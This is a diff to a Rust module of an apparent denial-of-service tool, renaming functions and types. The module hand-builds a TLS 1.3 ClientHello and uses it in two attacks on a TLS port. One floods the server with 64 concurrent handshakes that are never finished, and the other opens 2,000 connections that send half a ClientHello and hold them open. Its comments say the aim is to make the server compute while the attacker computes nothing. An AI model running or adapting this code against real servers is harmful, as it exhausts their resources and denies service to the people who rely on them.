@@ -1,8 +1,8 @@
 //! Attacks on a port that speaks TLS: handshakes that nobody means to finish. Their first message is written by hand, so that an attacker
 //! computes nothing of what it makes the server compute.
 
-use crate::crowd::{connect, reset};
-use crate::target::{Chance, Target};
+use crate::connections::{connect, reset};
+use crate::target::{AttackRng, Target};
 use std::io::{ErrorKind, Read, Write};
 use std::net::TcpStream;
 
@@ -10,7 +10,7 @@ use std::net::TcpStream;
 const AT_ONCE: usize = 64;
 
 /// The first message of a handshake of TLS 1.3 (RFC 8446, 4.1.2), with a share of X25519 that is as good as any: 32 bytes at random.
-pub(crate) fn hello(chance: &mut Chance) -> Vec<u8> {
+pub(crate) fn client_hello(chance: &mut AttackRng) -> Vec<u8> {
     let vector = |bytes: &[u8]| [&(bytes.len() as u16).to_be_bytes()[..], bytes].concat();
     let extension = |kind: u16, body: &[u8]| [&kind.to_be_bytes()[..], &vector(body)].concat();
     let share = [&[0x00, 0x1d][..], &vector(&chance.bytes(32))].concat();
@@ -38,16 +38,16 @@ pub(crate) fn hello(chance: &mut Chance) -> Vec<u8> {
 
 /// Begins handshakes as fast as the server takes them up, and goes when it has answered with its certificate.
 pub(crate) fn hellos(target: &Target) -> String {
-    let mut chance = target.chance();
-    let begin = |chance: &mut Chance| -> Option<TcpStream> {
+    let mut chance = target.rng();
+    let begin = |chance: &mut AttackRng| -> Option<TcpStream> {
         let mut stream = connect(target)?;
-        stream.write_all(&hello(chance)).ok()?;
+        stream.write_all(&client_hello(chance)).ok()?;
         stream.set_nonblocking(true).ok()?;
         Some(stream)
     };
     let mut under_way: Vec<Option<TcpStream>> = (0..AT_ONCE).map(|_| begin(&mut chance)).collect();
     let (mut answered, mut sent_away, mut into) = (0_u64, 0_u64, vec![0; 4_096]);
-    while target.goes_on() {
+    while target.is_active() {
         for place in &mut under_way {
             let Some(stream) = place else {
                 *place = begin(&mut chance);
@@ -68,7 +68,7 @@ pub(crate) fn hellos(target: &Target) -> String {
 }
 
 /// Handshakes that begin and stop: 2,000 connections.
-pub(crate) fn stopped(target: &Target) -> String {
-    let said = hello(&mut target.chance());
-    crate::crowd::hold(target, &crate::crowd::crowd(target, 2_000, &said[..said.len() / 2]))
+pub(crate) fn stalled_handshakes(target: &Target) -> String {
+    let said = client_hello(&mut target.rng());
+    crate::connections::hold(target, &crate::connections::connect_many(target, 2_000, &said[..said.len() / 2]))
 }
